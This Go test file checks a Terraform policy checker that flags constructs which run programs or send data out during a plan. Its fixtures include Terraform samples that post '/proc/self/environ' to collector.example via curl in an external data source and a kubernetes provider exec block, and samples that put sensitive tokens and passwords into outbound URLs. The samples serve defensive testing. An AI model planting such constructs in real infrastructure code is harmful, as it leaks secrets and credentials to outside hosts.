package policy_test

import (
	"fmt"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cloudoven/cloudoven/policy"
)

// constructCase is a construct that runs a program or sends data out, with the finding the
// default rules give it: its rule, the address a rule file allows it by, and its path.
type constructCase struct {
	name     string
	src      string
	rule     string
	resource string
	path     string
}

var constructCases = []constructCase{
	{name: "an external data source", rule: "no-external-data", resource: "data.external.git", path: "data[external.git].program", src: `
data "external" "git" {
  program = ["sh", "-c", "curl -d @/proc/self/environ https://collector.example"]
}
`},
	{name: "an http data source", rule: "no-http-data", resource: "data.http.ping", path: "data[http.ping].url", src: `
variable "token" {
  type      = string
  sensitive = true
}

data "http" "ping" {
  url = "https://collector.example/?t=${nonsensitive(var.token)}"
}
`},
	{name: "remote state at any host", rule: "own-remote-state", resource: "data.terraform_remote_state.leak", path: "data[terraform_remote_state.leak].config", src: `
variable "pw" {
  type      = string
  sensitive = true
}

data "terraform_remote_state" "leak" {
  backend = "http"
  config = {
    address = "http://collector.example/?pw=${nonsensitive(var.pw)}"
  }
}
`},
	{name: "remote state at an address from a variable", rule: "own-remote-state", resource: "data.terraform_remote_state.net", path: "data[terraform_remote_state.net].config", src: `
variable "address" {
  type = string
}

data "terraform_remote_state" "net" {
  backend = "http"
  config = {
    address = var.address
  }
}
`},
	{name: "remote state in another backend", rule: "own-remote-state", resource: "data.terraform_remote_state.net", path: "data[terraform_remote_state.net].backend", src: `
data "terraform_remote_state" "net" {
  backend = "azurerm"
  config = {
    storage_account_name = "sttfstate"
    container_name       = "tfstate"
    key                  = "net.tfstate"
  }
}
`},
	{name: "a kubernetes provider's exec block", rule: "no-provider-exec", resource: "provider.kubernetes", path: "providers[0].exec[0]", src: `
provider "kubernetes" {
  host = "https://aks.example:443"
  exec {
    api_version = "client.authentication.k8s.io/v1beta1"
    command     = "sh"
    args        = ["-c", "curl -d @/proc/self/environ https://collector.example"]
  }
}
`},
	{name: "a helm provider's kubernetes exec", rule: "no-provider-exec", resource: "provider.helm.aks", path: "providers[0].kubernetes", src: `
provider "helm" {
  alias = "aks"
  kubernetes = {
    host = "https://aks.example:443"
    exec = {
      api_version = "client.authentication.k8s.io/v1beta1"
      command     = "kubelogin"
    }
  }
}
`},
	{name: "a helm provider's kubernetes settings from a variable", rule: "no-provider-exec", resource: "provider.helm", path: "providers[0].kubernetes", src: `
variable "kubernetes" {
  type = any
}

provider "helm" {
  kubernetes = var.kubernetes
}
`},
}

// TestConstructsThatRunProgramsOrSendDataOut: the default rules catch each construct with
// its own rule, and a rule file lets it through by its address, or with the rule off.
func TestConstructsThatRunProgramsOrSendDataOut(t *testing.T) {
	for _, tc := range constructCases {
		t.Run(tc.name, func(t *testing.T) {
			b := importHCL(t, tc.src)
			opts := policy.Options{Catalog: testCatalog(t)}
			var got []string
			for _, f := range policy.Check(b, policy.DefaultRules(), opts) {
				got = append(got, f.Rule+" "+f.Resource+" "+f.Path)
				if f.Message == "" || f.Fix == "" {
					t.Errorf("incomplete finding: %+v", f)
				}
			}
			if diff := cmp.Diff([]string{tc.rule + " " + tc.resource + " " + tc.path}, got); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
			for _, file := range []string{
				fmt.Sprintf(`{"rules": [{"id": %q, "allow": [%q]}]}`, tc.rule, tc.resource),
				fmt.Sprintf(`{"rules": [{"id": %q, "enabled": false}]}`, tc.rule),
			} {
				rules, err := policy.ParseRules([]byte(file))
				if err != nil {
					t.Errorf("%s: %v", file, err)
					continue
				}
				if fs := policy.Check(b, rules, opts); len(fs) != 0 {
					t.Errorf("with %s: %v", file, fs)
				}
			}
		})
	}
}

// TestConstructsThatAreFine: a kubernetes provider with a token, remote state nowhere, and
// data sources that only read the cloud raise nothing.
func TestConstructsThatAreFine(t *testing.T) {
	b := importHCL(t, `
variable "token" {
  type      = string
  sensitive = true
}

provider "kubernetes" {
  host  = "https://aks.example:443"
  token = var.token
}

provider "helm" {
  kubernetes = {
    host  = "https://aks.example:443"
    token = var.token
  }
}

data "azurerm_client_config" "current" {}
`)
	if fs := policy.Check(b, policy.DefaultRules(), policy.Options{Catalog: testCatalog(t)}); len(fs) != 0 {
		t.Errorf("findings: %v", fs)
	}
}

func TestOwnRemoteState(t *testing.T) {
	const own = "https://cloudoven.example/api/v1/state/team/7"
	src := func(backend, config string) string {
		return "data \"terraform_remote_state\" \"net\" {\n  backend = " + backend + "\n  config = " + config + "\n}\n"
	}
	for _, tc := range []struct {
		name, src, path string
		own             []string
	}{
		{name: "a deployment of the project", own: []string{"https://cloudoven.example/api/v1/state/team/3", own},
			src: src(`"http"`, `{ address = "`+own+`" }`)},
		{name: "with defaults and workspace", own: []string{own},
			src: "data \"terraform_remote_state\" \"net\" {\n  backend = \"http\"\n  workspace = \"default\"\n  defaults = { x = 1 }\n  config = { address = \"" + own + "\" }\n}\n"},
		{name: "no state URL known", src: src(`"http"`, `{ address = "`+own+`" }`), path: "data[terraform_remote_state.net].config"},
		{name: "another deployment's path", own: []string{own}, src: src(`"http"`, `{ address = "`+own+`0" }`), path: "data[terraform_remote_state.net].config"},
		{name: "credentials beside the address", own: []string{own},
			src: src(`"http"`, `{ address = "`+own+`", lock_address = "https://collector.example/" }`), path: "data[terraform_remote_state.net].config"},
		{name: "config from a variable", own: []string{own}, src: "variable \"c\" {}\n" + src(`"http"`, `var.c`), path: "data[terraform_remote_state.net].config"},
		{name: "backend from a variable", own: []string{own}, src: "variable \"b\" {}\n" + src(`var.b`, `{ address = "`+own+`" }`), path: "data[terraform_remote_state.net].backend"},
		{name: "no config", own: []string{own}, src: "data \"terraform_remote_state\" \"net\" {\n  backend = \"http\"\n}\n", path: "data[terraform_remote_state.net]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b := importHCL(t, tc.src)
			var paths []string
			for _, f := range policy.Check(b, policy.DefaultRules(), policy.Options{Catalog: testCatalog(t), OwnStates: tc.own}) {
				paths = append(paths, f.Path)
				if f.Rule != policy.OwnRemoteState || !f.Blocks {
					t.Errorf("finding %+v: want own-remote-state, blocking", f)
				}
			}
			var want []string
			if tc.path != "" {
				want = []string{tc.path}
			}
			if diff := cmp.Diff(want, paths); diff != "" {
				t.Errorf("finding paths (-want +got):\n%s", diff)
			}
		})
	}
}

// TestOnlyConstructRulesBlock: findings of the rules about what an apply builds leave
// blocking to the environment; those of constructs that run during the plan block.
func TestOnlyConstructRulesBlock(t *testing.T) {
	for _, r := range policy.DefaultRules().Rules {
		want := r.ID == policy.NoExternalData || r.ID == policy.NoHTTPData || r.ID == policy.OwnRemoteState || r.ID == policy.NoProviderExec ||
			r.ID == policy.ReviewedModules
		if got := policy.Blocks(r.ID); got != want {
			t.Errorf("Blocks(%s) = %v, want %v", r.ID, got, want)
		}
	}
	b := importHCL(t, `
resource "azurerm_resource_group" "rg" {
  name     = "rg"
  location = "westeurope"
}

data "http" "ping" {
  url = "https://collector.example/"
}
`)
	blocks := map[string]bool{}
	for _, f := range policy.Check(b, policy.DefaultRules(), policy.Options{Catalog: testCatalog(t)}) {
		blocks[f.Rule] = f.Blocks
	}
	if diff := cmp.Diff(map[string]bool{policy.RequiredTags: false, policy.NoHTTPData: true}, blocks); diff != "" {
		t.Errorf("Blocks by rule (-want +got):\n%s", diff)
	}
}
